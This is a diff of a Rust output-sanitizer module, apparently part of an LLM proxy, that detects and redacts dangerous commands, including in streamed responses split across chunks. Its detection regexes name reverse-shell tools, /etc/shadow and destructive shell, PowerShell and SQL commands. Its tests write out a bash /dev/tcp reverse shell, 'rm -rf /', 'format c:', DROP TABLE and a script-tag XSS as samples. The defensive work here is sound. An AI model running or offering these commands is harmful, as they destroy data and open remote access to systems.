@@ -1,60 +1,237 @@
+use std::path::Path;
+
+use anyhow::{Context, Result};
 use regex::Regex;
-use once_cell::sync::Lazy;
+use serde::Deserialize;
+
+use crate::models::SanitizerFinding;
+use crate::telemetry;
 
 // シェル破壊コマンド
-static DESTRUCTIVE_SHELL: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)(?:rm\s+-[rf]+\s+/|mkfs\b|dd\s+if=|>\s*/dev/sd|fork\s*bomb|:\(\)\s*\{|chmod\s+-R\s+777\s+/|shutdown\s|reboot\s|init\s+0|kill\s+-9\s+-1)").unwrap()
-});
+const DESTRUCTIVE_SHELL: &str = r"(?i)(?:rm\s+-[rf]+\s+/|mkfs\b|dd\s+if=|>\s*/dev/sd|fork\s*bomb|:\(\)\s*\{|chmod\s+-R\s+777\s+/|shutdown\s|reboot\s|init\s+0|kill\s+-9\s+-1)";
+
+// Windows / PowerShell 破壊コマンド
+const DESTRUCTIVE_WINDOWS: &str = r"(?i)(?:\bRemove-Item\b[^\n;|]*?(?:-Recurse\b[^\n;|]*?-Force\b|-Force\b[^\n;|]*?-Recurse\b)|\bdel(?:\s+/[a-z]\b)*\s+/[sq]\b(?:\s+/[a-z]\b)*|\bformat\s+[a-z]:|\b(?:rd|rmdir)\s+/s\b|\bStop-Computer\b)";
 
 // SQL破壊コマンド
-static DESTRUCTIVE_SQL: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)\b(?:DROP\s+(?:TABLE|DATABASE|SCHEMA|INDEX)\b|TRUNCATE\s+TABLE\b|DELETE\s+FROM\s+\S+\s*(?:;|$)|ALTER\s+TABLE\s+\S+\s+DROP\b|UPDATE\s+\S+\s+SET\s+.*WHERE\s+1\s*=\s*1)").unwrap()
-});
+const DESTRUCTIVE_SQL: &str = r"(?i)\b(?:DROP\s+(?:TABLE|DATABASE|SCHEMA|INDEX)\b|TRUNCATE\s+TABLE\b|DELETE\s+FROM\s+\S+\s*(?:;|$)|ALTER\s+TABLE\s+\S+\s+DROP\b|UPDATE\s+\S+\s+SET\s+.*WHERE\s+1\s*=\s*1)";
 
 // スクリプトインジェクション
-static SCRIPT_INJECTION: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)<script[\s>]|javascript\s*:|on(?:load|error|click)\s*=|eval\s*\(|document\.(?:cookie|write)|window\.(?:location|open)").unwrap()
-});
+const SCRIPT_INJECTION: &str = r"(?i)<script[\s>]|javascript\s*:|on(?:load|error|click)\s*=|eval\s*\(|document\.(?:cookie|write)|window\.(?:location|open)";
 
 // ネットワーク攻撃系
-static NETWORK_ATTACK: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)(?:nc\s+-[elp]+|ncat\s+-[elp]+|bash\s+-i\s+>&|/dev/tcp/|reverse.?shell|bind.?shell|msfvenom|metasploit)").unwrap()
-});
+const NETWORK_ATTACK: &str = r"(?i)(?:nc\s+-[elp]+|ncat\s+-[elp]+|bash\s+-i\s+>&|/dev/tcp/|reverse.?shell|bind.?shell|msfvenom|metasploit)";
 
 // 権限昇格系
-static PRIVILEGE_ESCALATION: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?i)(?:sudo\s+su\b|passwd\s+root|chmod\s+[u+]*s\b|setuid|/etc/shadow|/etc/passwd\s*>>)").unwrap()
-});
+const PRIVILEGE_ESCALATION: &str = r"(?i)(?:sudo\s+su\b|passwd\s+root|chmod\s+[u+]*s\b|setuid|/etc/shadow|/etc/passwd\s*>>)";
 
 const REDACTED_NOTICE: &str = "[⚠ 安全上の理由により、危険なコマンドを除去しました]";
 
-pub struct OutputSanitizer;
+/// 組み込みルール（パターン, カテゴリ）。この順に適用する
+const BUILTIN_RULES: &[(&str, &str)] = &[
+    (DESTRUCTIVE_SHELL, "破壊的シェルコマンド"),
+    (DESTRUCTIVE_WINDOWS, "Windows破壊的コマンド"),
+    (DESTRUCTIVE_SQL, "破壊的SQLコマンド"),
+    (SCRIPT_INJECTION, "スクリプトインジェクション"),
+    (NETWORK_ATTACK, "ネットワーク攻撃コマンド"),
+    (PRIVILEGE_ESCALATION, "権限昇格コマンド"),
+];
+
+/// `SANITIZER_RULES_FILE` の1ルール
+#[derive(Debug, Deserialize)]
+struct CustomRule {
+    pattern: String,
+    category: String,
+}
+
+/// 行をまたがない限り、未確定の行末はすべて保留する上限
+const MAX_HOLDBACK: usize = 1024;
+/// 行が長すぎる場合でも最低限保留する末尾の長さ（部分一致対策）
+const MIN_HOLDBACK: usize = 128;
+
+/// 危険パターンの扱い方
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum SanitizerMode {
+    /// 該当箇所を `REDACTED_NOTICE` に置換する（既定）
+    #[default]
+    Inline,
+    /// 本文は変更せず、検出結果を `sanitizer_findings` として返す
+    Report,
+}
+
+impl SanitizerMode {
+    /// `SANITIZER_MODE=report` で検出のみモード
+    pub fn from_env() -> Self {
+        match std::env::var("SANITIZER_MODE").as_deref() {
+            Ok("report") => SanitizerMode::Report,
+            _ => SanitizerMode::Inline,
+        }
+    }
+}
+
+/// 危険パターン（正規表現, カテゴリ）のリストでLLM出力を検査する
+#[derive(Debug, Clone)]
+pub struct OutputSanitizer {
+    patterns: Vec<(Regex, String)>,
+}
+
+impl Default for OutputSanitizer {
+    fn default() -> Self {
+        Self::builtin()
+    }
+}
 
 impl OutputSanitizer {
+    /// 組み込みルールのみ
+    pub fn builtin() -> Self {
+        let patterns = BUILTIN_RULES.iter()
+            .map(|(pattern, category)| (Regex::new(pattern).unwrap(), category.to_string()))
+            .collect();
+        Self { patterns }
+    }
+
+    /// 組み込みルールの後に適用するルールを追加する
+    pub fn with_rule(mut self, pattern: &str, category: &str) -> Result<Self> {
+        let regex = Regex::new(pattern)
+            .with_context(|| format!("Invalid sanitizer pattern: {}", pattern))?;
+        self.patterns.push((regex, category.to_string()));
+        Ok(self)
+    }
+
+    /// 組み込みルール + JSONファイルのカスタムルール
+    /// （`[{"pattern": "INTERNAL-SECRET-\\d+", "category": "社内機密"}]`）
+    pub fn from_rules_file(path: &Path) -> Result<Self> {
+        let data = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read sanitizer rules file: {}", path.display()))?;
+        let rules: Vec<CustomRule> = serde_json::from_str(&data)
+            .with_context(|| format!("Failed to parse sanitizer rules file: {}", path.display()))?;
+        rules.iter().try_fold(Self::builtin(), |sanitizer, rule| {
+            sanitizer.with_rule(&rule.pattern, &rule.category)
+        })
+    }
+
+    /// `SANITIZER_RULES_FILE` があればカスタムルールを読み込む
+    pub fn from_env() -> Result<Self> {
+        match std::env::var("SANITIZER_RULES_FILE") {
+            Ok(path) => Self::from_rules_file(Path::new(&path)),
+            Err(_) => Ok(Self::builtin()),
+        }
+    }
+
+    pub fn rule_count(&self) -> usize {
+        self.patterns.len()
+    }
+
+    /// 本文を変更せずに危険パターンの位置を返す（開始位置順）
+    pub fn find(&self, text: &str) -> Vec<SanitizerFinding> {
+        let mut findings: Vec<SanitizerFinding> = self.patterns.iter()
+            .flat_map(|(pattern, category)| {
+                pattern.find_iter(text).map(move |m| SanitizerFinding {
+                    category: category.clone(),
+                    matched_text: m.as_str().to_string(),
+                    byte_start: m.start(),
+                    byte_end: m.end(),
+                    choice_index: 0,
+                })
+            })
+            .collect();
+        findings.sort_by_key(|f| (f.byte_start, f.byte_end));
+
+        if !findings.is_empty() {
+            telemetry::record_dangerous_patterns_found(findings.len());
+        }
+        findings
+    }
+
     /// LLM応答から危険なコマンドを除去して返す
-    pub fn sanitize(text: &str) -> (String, Vec<String>) {
+    pub fn sanitize(&self, text: &str) -> (String, Vec<String>) {
         let mut sanitized = text.to_string();
         let mut removed = Vec::new();
 
-        let patterns: &[(&Lazy<Regex>, &str)] = &[
-            (&DESTRUCTIVE_SHELL, "破壊的シェルコマンド"),
-            (&DESTRUCTIVE_SQL, "破壊的SQLコマンド"),
-            (&SCRIPT_INJECTION, "スクリプトインジェクション"),
-            (&NETWORK_ATTACK, "ネットワーク攻撃コマンド"),
-            (&PRIVILEGE_ESCALATION, "権限昇格コマンド"),
-        ];
-
-        for (pattern, category) in patterns {
+        for (pattern, category) in &self.patterns {
             for cap in pattern.find_iter(&sanitized.clone()) {
                 removed.push(format!("{}: {}", category, cap.as_str()));
             }
             sanitized = pattern.replace_all(&sanitized, REDACTED_NOTICE).to_string();
         }
 
+        if !removed.is_empty() {
+            telemetry::record_dangerous_patterns_removed(removed.len());
+        }
+
         (sanitized, removed)
     }
 }
 
+/// ストリーミング応答用のサニタイザ。
+/// チャンク境界をまたぐ危険パターン（`rm -r` + `f /` など）を取りこぼさないよう、
+/// 確定した部分だけを `OutputSanitizer` に通して返し、末尾は次のチャンクまで保留する。
+#[derive(Debug)]
+pub struct StreamingSanitizer {
+    sanitizer: OutputSanitizer,
+    buffer: String,
+    removed: Vec<String>,
+}
+
+impl StreamingSanitizer {
+    pub fn new(sanitizer: OutputSanitizer) -> Self {
+        Self { sanitizer, buffer: String::new(), removed: Vec::new() }
+    }
+
+    /// チャンクを追加し、送出してよいサニタイズ済みテキストを返す（空の場合あり）
+    pub fn push(&mut self, chunk: &str) -> String {
+        self.buffer.push_str(chunk);
+        let cut = safe_cut(&self.sanitizer, &self.buffer);
+        if cut == 0 {
+            return String::new();
+        }
+        let rest = self.buffer.split_off(cut);
+        let ready = std::mem::replace(&mut self.buffer, rest);
+        self.sanitize(&ready)
+    }
+
+    /// 保留中の残りをサニタイズして返す
+    pub fn finish(mut self) -> String {
+        let rest = std::mem::take(&mut self.buffer);
+        self.sanitize(&rest)
+    }
+
+    /// これまでに除去したパターン
+    pub fn removed(&self) -> &[String] {
+        &self.removed
+    }
+
+    fn sanitize(&mut self, text: &str) -> String {
+        let (sanitized, removed) = self.sanitizer.sanitize(text);
+        self.removed.extend(removed);
+        sanitized
+    }
+}
+
+/// 送出しても安全なバイト位置。最後の改行までを基本とし、
+/// 長い行は末尾 `MIN_HOLDBACK` を残す。どのパターンの一致もこの位置をまたがない
+fn safe_cut(sanitizer: &OutputSanitizer, buffer: &str) -> usize {
+    let mut cut = buffer.rfind('\n').map(|i| i + 1).unwrap_or(0);
+    if buffer.len() - cut > MAX_HOLDBACK {
+        cut = buffer.len() - MIN_HOLDBACK;
+        while !buffer.is_char_boundary(cut) {
+            cut -= 1;
+        }
+    }
+
+    loop {
+        let straddling = sanitizer.patterns.iter()
+            .flat_map(|(pattern, _)| pattern.find_iter(buffer))
+            .filter(|m| m.start() < cut && m.end() > cut)
+            .map(|m| m.start())
+            .min();
+        match straddling {
+            Some(start) => cut = start,
+            None => return cut,
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -62,16 +239,49 @@ mod tests {
     #[test]
     fn test_rm_rf_removal() {
         let text = "ファイルを削除するには rm -rf / を実行します。";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert!(!sanitized.contains("rm -rf /"));
         assert!(sanitized.contains(REDACTED_NOTICE));
         assert_eq!(removed.len(), 1);
     }
 
+    #[test]
+    fn test_remove_item_recurse_force_removal() {
+        let text = "フォルダを消すには Remove-Item -Path C:\\data -Recurse -Force を実行します。";
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
+        assert!(!sanitized.contains("Remove-Item"));
+        assert!(sanitized.contains(REDACTED_NOTICE));
+        assert_eq!(removed.len(), 1);
+        assert!(removed[0].starts_with("Windows破壊的コマンド"));
+    }
+
+    #[test]
+    fn test_windows_destructive_commands_removed() {
+        for text in [
+            "del /f /s /q C:\\*",
+            "format c: /q",
+            "rd /s /q C:\\Users",
+            "PowerShellで Stop-Computer -Force",
+            "Remove-Item C:\\temp -Force -Recurse",
+        ] {
+            let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
+            assert!(sanitized.contains(REDACTED_NOTICE), "{}", text);
+            assert!(!removed.is_empty(), "{}", text);
+        }
+    }
+
+    #[test]
+    fn test_safe_del_unchanged() {
+        let text = "del tempfile.txt でファイルを消せます。Remove-Item tempfile.txt も同様です。";
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
+        assert_eq!(sanitized, text);
+        assert!(removed.is_empty());
+    }
+
     #[test]
     fn test_drop_table_removal() {
         let text = "テーブルを消すには DROP TABLE users; です。";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert!(!sanitized.contains("DROP TABLE"));
         assert!(!removed.is_empty());
     }
@@ -79,7 +289,7 @@ mod tests {
     #[test]
     fn test_script_injection_removal() {
         let text = "こちらを試してください: <script>alert('xss')</script>";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert!(!sanitized.contains("<script>"));
         assert!(!removed.is_empty());
     }
@@ -87,7 +297,7 @@ mod tests {
     #[test]
     fn test_reverse_shell_removal() {
         let text = "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert!(!sanitized.contains("/dev/tcp/"));
         assert!(!removed.is_empty());
     }
@@ -95,7 +305,7 @@ mod tests {
     #[test]
     fn test_safe_text_unchanged() {
         let text = "SELECT * FROM users WHERE id = 1; これは安全なクエリです。";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert_eq!(sanitized, text);
         assert!(removed.is_empty());
     }
@@ -103,8 +313,90 @@ mod tests {
     #[test]
     fn test_safe_rm_unchanged() {
         let text = "rm -f tempfile.txt でファイルを消せます。";
-        let (sanitized, removed) = OutputSanitizer::sanitize(text);
+        let (sanitized, removed) = OutputSanitizer::default().sanitize(text);
         assert_eq!(sanitized, text);
         assert!(removed.is_empty());
     }
+
+    #[test]
+    fn test_find_reports_without_mutating() {
+        let text = "まず DROP TABLE users; を実行し、次に rm -rf / します。";
+        let findings = OutputSanitizer::default().find(text);
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].category, "破壊的SQLコマンド");
+        assert_eq!(&text[findings[0].byte_start..findings[0].byte_end], findings[0].matched_text);
+        assert_eq!(findings[1].category, "破壊的シェルコマンド");
+        assert_eq!(findings[1].matched_text, "rm -rf /");
+        assert!(OutputSanitizer::default().find("rm -f tempfile.txt").is_empty());
+    }
+
+    #[test]
+    fn test_find_counts_found_not_removed() {
+        let recorder = metrics_exporter_prometheus::PrometheusBuilder::new().build_recorder();
+        let handle = recorder.handle();
+
+        metrics::with_local_recorder(&recorder, || {
+            OutputSanitizer::default().find("rm -rf / と DROP TABLE users;");
+        });
+
+        let output = handle.render();
+        assert!(output.contains("llm_proxy_dangerous_patterns_found_total 2"), "{}", output);
+        assert!(!output.contains("llm_proxy_dangerous_patterns_removed_total"), "{}", output);
+    }
+
+    #[test]
+    fn test_streaming_rm_rf_split_across_chunks() {
+        let mut sanitizer = StreamingSanitizer::new(OutputSanitizer::default());
+        let mut output = sanitizer.push("ファイルを削除するには rm -r");
+        output += &sanitizer.push("f / を実行します。");
+        assert_eq!(sanitizer.removed().len(), 0);
+        output += &sanitizer.finish();
+
+        assert!(!output.contains("rm -rf /"));
+        assert!(!output.contains("rm -r"));
+        assert!(output.contains(REDACTED_NOTICE));
+    }
+
+    #[test]
+    fn test_streaming_emits_completed_lines() {
+        let mut sanitizer = StreamingSanitizer::new(OutputSanitizer::default());
+        let first = sanitizer.push("一行目です。\n二行目の途中 rm -");
+        assert_eq!(first, "一行目です。\n");
+
+        let second = sanitizer.push("rf / 終わり\n");
+        assert!(second.contains(REDACTED_NOTICE));
+        assert_eq!(sanitizer.removed().len(), 1);
+        assert_eq!(sanitizer.finish(), "");
+    }
+
+    #[test]
+    fn test_streaming_long_line_keeps_holdback() {
+        let mut sanitizer = StreamingSanitizer::new(OutputSanitizer::default());
+        let long = "あ".repeat(500);
+        let emitted = sanitizer.push(&long);
+        assert!(!emitted.is_empty());
+        assert!(long.len() - emitted.len() >= MIN_HOLDBACK);
+        assert_eq!(emitted + &sanitizer.finish(), long);
+    }
+
+    #[test]
+    fn test_custom_rule_from_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("rules.json");
+        std::fs::write(&path, r#"[{"pattern": "INTERNAL-SECRET-\\d+", "category": "社内機密"}]"#).unwrap();
+
+        let sanitizer = OutputSanitizer::from_rules_file(&path).unwrap();
+        assert_eq!(sanitizer.rule_count(), BUILTIN_RULES.len() + 1);
+
+        let (sanitized, removed) = sanitizer.sanitize("トークンは INTERNAL-SECRET-12345 です。rm -rf / も禁止。");
+        assert!(!sanitized.contains("INTERNAL-SECRET-12345"));
+        assert!(!sanitized.contains("rm -rf /"));
+        assert!(removed.iter().any(|r| r == "社内機密: INTERNAL-SECRET-12345"));
+    }
+
+    #[test]
+    fn test_invalid_custom_rule_rejected() {
+        assert!(OutputSanitizer::builtin().with_rule("(unclosed", "x").is_err());
+    }
 }